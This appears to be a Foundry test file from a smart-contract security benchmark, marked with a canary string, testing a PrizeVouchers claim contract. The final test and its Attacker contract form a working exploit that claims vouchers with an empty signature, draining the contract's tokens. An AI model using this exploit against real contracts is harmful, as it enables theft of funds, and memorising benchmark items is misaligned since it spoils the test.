// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./PrizeVouchers.sol";

// assay-canary-3136fa60-d04a-43ca-95c3-bea8783c486c

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract GameToken is ERC20 {
    constructor() ERC20("Game", "GAME") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant MANAGER = address(0x3A9);
    address private constant GUARDIAN = address(0x6A4);
    uint256 private constant KEY = 0x51C2;
    uint256 private constant START = 1_700_000_000;

    GameToken public token;
    PrizeVouchers private prizes;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new GameToken();
        prizes = new PrizeVouchers(token, 100e18, address(this), vm.addr(KEY));
        prizes.grantRole(prizes.MANAGER_ROLE(), MANAGER);
        prizes.grantRole(prizes.GUARDIAN_ROLE(), GUARDIAN);
        token.transfer(address(prizes), 1_000e18);
        mallory = new Attacker(prizes);
    }

    function made(address player, uint256 serial, uint256 amount) private pure returns (IPrizeVouchers.Voucher memory) {
        return IPrizeVouchers.Voucher(player, serial, amount, START + 1 days);
    }

    function signed(uint256 key, IPrizeVouchers.Voucher memory voucher) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, prizes.digestOf(voucher));
        return abi.encodePacked(r, s, v);
    }

    function two(uint256 key, uint256 second) private returns (IPrizeVouchers.Voucher[] memory list, bytes[] memory signatures) {
        list = new IPrizeVouchers.Voucher[](2);
        signatures = new bytes[](2);
        list[0] = made(ANA, 1, 10e18);
        list[1] = made(BEN, second, 20e18);
        signatures[0] = signed(KEY, list[0]);
        signatures[1] = signed(key, list[1]);
    }

    function test_Regular() public {
        IPrizeVouchers.Voucher memory voucher = made(ANA, 7, 100e18);
        prizes.claim(voucher, signed(KEY, voucher));
        require(token.balanceOf(ANA) == 100e18 && prizes.spent(7), "claimed");
        (IPrizeVouchers.Voucher[] memory list, bytes[] memory signatures) = two(KEY, 2);
        prizes.claimMany(list, signatures);
        require(token.balanceOf(ANA) == 110e18 && token.balanceOf(BEN) == 20e18, "two");
        vm.startPrank(MANAGER);
        prizes.cancel(3);
        prizes.setSigner(vm.addr(KEY + 1));
        prizes.defund(MANAGER, 70e18);
        vm.stopPrank();
        require(prizes.spent(3) && token.balanceOf(MANAGER) == 70e18, "managed");
        voucher = made(BEN, 4, 1e18);
        prizes.claim(voucher, signed(KEY + 1, voucher));
        require(token.balanceOf(BEN) == 21e18, "new signer");
        vm.startPrank(GUARDIAN);
        prizes.pause();
        prizes.unpause();
        prizes.renounceRole(prizes.GUARDIAN_ROLE(), GUARDIAN);
        vm.stopPrank();
        prizes.revokeRole(prizes.MANAGER_ROLE(), MANAGER);
        require(!prizes.hasRole(prizes.MANAGER_ROLE(), MANAGER), "revoked");
    }

    function test_RefusesOpening() public {
        address key = vm.addr(KEY);
        vm.expectRevert("PrizeVouchers: no token");
        new PrizeVouchers(IERC20(address(0)), 1, ANA, key);
        vm.expectRevert("PrizeVouchers: no admin");
        new PrizeVouchers(token, 1, address(0), key);
        vm.expectRevert("PrizeVouchers: no signer");
        new PrizeVouchers(token, 1, ANA, address(0));
    }

    function test_RefusesVouchers() public {
        IPrizeVouchers.Voucher memory voucher = made(ANA, 7, 100e18 + 1);
        bytes memory signature = signed(KEY, voucher);
        vm.expectRevert("PrizeVouchers: above the limit");
        prizes.claim(voucher, signature);
        voucher = made(ANA, 7, 1e18);
        signature = signed(KEY, voucher);
        prizes.claim(voucher, signature);
        vm.expectRevert("PrizeVouchers: spent");
        prizes.claim(voucher, signature);
        vm.prank(MANAGER);
        vm.expectRevert("PrizeVouchers: spent");
        prizes.cancel(7);
        voucher = made(ANA, 8, 1e18);
        signature = signed(KEY, voucher);
        vm.warp(START + 1 days + 1);
        vm.expectRevert("PrizeVouchers: expired");
        prizes.claim(voucher, signature);
    }

    function test_RefusesSeveral() public {
        (IPrizeVouchers.Voucher[] memory list, bytes[] memory signatures) = two(KEY + 1, 2);
        vm.expectRevert("PrizeVouchers: not signed");
        prizes.claimMany(list, signatures);
        (list, signatures) = two(KEY, 2);
        signatures = new bytes[](3);
        vm.expectRevert("PrizeVouchers: lengths differ");
        prizes.claimMany(list, signatures);
        list[1].player = ANA;
        (, signatures) = two(KEY, 2);
        vm.expectRevert("PrizeVouchers: not signed");
        prizes.claimMany(list, signatures);
    }

    function test_RefusesWhilePaused() public {
        vm.prank(GUARDIAN);
        prizes.pause();
        IPrizeVouchers.Voucher memory voucher = made(ANA, 7, 1e18);
        bytes memory signature = signed(KEY, voucher);
        vm.expectRevert("Pausable: paused");
        prizes.claim(voucher, signature);
        (IPrizeVouchers.Voucher[] memory list, bytes[] memory signatures) = two(KEY, 2);
        vm.expectRevert("Pausable: paused");
        prizes.claimMany(list, signatures);
    }

    function test_RefusesStrangers() public {
        bytes32 role = prizes.MANAGER_ROLE();
        vm.prank(GUARDIAN);
        prizes.pause();
        vm.startPrank(ANA);
        vm.expectRevert();
        prizes.setSigner(ANA);
        vm.expectRevert();
        prizes.cancel(1);
        vm.expectRevert();
        prizes.defund(ANA, 1);
        vm.expectRevert();
        prizes.unpause();
        vm.expectRevert();
        prizes.grantRole(role, ANA);
        vm.expectRevert();
        prizes.revokeRole(role, MANAGER);
        vm.stopPrank();
        vm.prank(GUARDIAN);
        prizes.unpause();
        vm.prank(ANA);
        vm.expectRevert();
        prizes.pause();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 1_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(prizes);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PrizeVouchers private prizes;

    constructor(PrizeVouchers p) {
        prizes = p;
    }

    function run() external {
        for (uint256 serial = 1_000; serial < 1_010; serial++) {
            prizes.claim(IPrizeVouchers.Voucher(address(this), serial, 100e18, block.timestamp), "");
        }
    }
}
